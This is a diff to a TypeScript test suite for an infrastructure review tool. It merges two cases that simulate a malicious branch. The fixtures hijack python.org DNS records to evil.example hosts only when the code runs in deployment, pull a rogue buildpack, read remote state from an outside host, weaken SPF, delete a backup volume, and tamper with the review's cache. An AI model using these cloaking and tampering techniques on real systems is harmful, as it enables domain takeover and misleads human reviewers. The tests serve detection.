@@ -167,46 +167,20 @@ patch("digitalocean-nyc3", (c) => { c.data = { ...(c.data ?? {}), external: { pr
   });
 });
 
-describe("a branch whose synthesis differs where it is deployed", () => {
+describe("a branch whose synthesis differs where it is deployed, and tampers with the review", () => {
   let review: { status: number; report: ReviewReport };
   beforeAll(async () => {
+    // Its synthesis changes names only where a deploy runs it; after its own synthesis it copies its output over any
+    // review's copy of the base's, and empties a base state in the review's cache; it also deletes the rule its SPF
+    // change breaks from its own policy (the review runs the base's).
     const clone = estateClone({
-      message: "Refactor synthesis",
+      message: "Refactor synthesis and retire the backup volume",
+      files: { "policy/rules/dns.ts": (text) => text.replace("CAA_ALLOWS_USED_CAS, NO_SPF_PLUS_ALL,", "CAA_ALLOWS_USED_CAS,") },
       afterSynthesis: `
 if (!process.cwd().includes("psf-review")) patch("dns", (c) => { record(c, "www.python.org", "CNAME").records = ["www.evil.example"]; });
 if (Date.now() > Date.parse("${days(30)}")) patch("dns", (c) => { record(c, "docs.python.org", "CNAME").records = ["docs.evil.example"]; });
 if ((Reflect.get(process, "env") as Record<string, string | undefined>)["AWS_PROFILE"] !== undefined) patch("heroku", (c) => { (Object.values(c.resource.heroku_app)[0] as any).buildpacks = ["https://github.com/evil/buildpack"]; });
 if (process.env.PSF_ESTATE_BACKEND === "cloud") patch("gandi", (c) => { c.data.terraform_remote_state["cross-stack-reference-input-dns"] = { backend: "http", config: { address: "https://state.evil.example/dns" } }; });
-`,
-    });
-    review = await reviewOf(clone);
-  }, 300_000);
-
-  it("fails the review", () => {
-    expect(review.status).toBe(1);
-  });
-
-  it("names the stacks a deploy would synthesize differently: by working directory and environment, and by date", () => {
-    const differs = review.report.dangers.filter((d) => d.kind === "deploy-differs");
-    expect(differs).toContainEqual(expect.objectContaining({ stack: "dns", detail: expect.stringMatching(/as a deploy would/) }));
-    expect(differs).toContainEqual(expect.objectContaining({ stack: "heroku", detail: expect.stringMatching(/as a deploy would/) }));
-    expect(differs).toContainEqual(expect.objectContaining({ stack: "dns", detail: expect.stringMatching(/clock 90 days ahead/) }));
-  });
-
-  it("names a remote-state read from outside the estate in the deployed synthesis", () => {
-    expect(named(review.report, "takeover", "reads-outside-state", /state\.evil\.example/)).not.toEqual([]);
-  });
-});
-
-describe("a branch that tampers with the review", () => {
-  let review: { status: number; report: ReviewReport };
-  beforeAll(async () => {
-    // After its own synthesis: copy its output over any review's copy of the base's, and empty a base state in the review's cache.
-    // It also deletes the rule its SPF change breaks from its own policy: the review runs the base's.
-    const clone = estateClone({
-      message: "Retire the backup volume",
-      files: { "policy/rules/dns.ts": (text) => text.replace("CAA_ALLOWS_USED_CAS, NO_SPF_PLUS_ALL,", "CAA_ALLOWS_USED_CAS,") },
-      afterSynthesis: `
 patch("dns", (c) => { record(c, "python.org", "TXT").records = ["v=spf1 +all"]; });
 patch("digitalocean-sfo1", (c) => { delete c.resource.digitalocean_volume; delete c.resource.digitalocean_volume_attachment; });
 const __path = require("node:path");
@@ -226,8 +200,22 @@ if (__fs.existsSync(__cache)) for (const entry of __fs.readdirSync(__cache)) {
     review = await reviewOf(clone);
   }, 300_000);
 
-  it("fails the review and names the tampering", () => {
+  it("fails the review", () => {
     expect(review.status).toBe(1);
+  });
+
+  it("names the stacks a deploy would synthesize differently: by working directory and environment, and by date", () => {
+    const differs = review.report.dangers.filter((d) => d.kind === "deploy-differs");
+    expect(differs).toContainEqual(expect.objectContaining({ stack: "dns", detail: expect.stringMatching(/as a deploy would/) }));
+    expect(differs).toContainEqual(expect.objectContaining({ stack: "heroku", detail: expect.stringMatching(/as a deploy would/) }));
+    expect(differs).toContainEqual(expect.objectContaining({ stack: "dns", detail: expect.stringMatching(/clock 90 days ahead/) }));
+  });
+
+  it("names a remote-state read from outside the estate in the deployed synthesis", () => {
+    expect(named(review.report, "takeover", "reads-outside-state", /state\.evil\.example/)).not.toEqual([]);
+  });
+
+  it("names the tampering with the review's cache", () => {
     expect(named(review.report, "hiding", "review-tampered", /review-base/)).not.toEqual([]);
   });
 
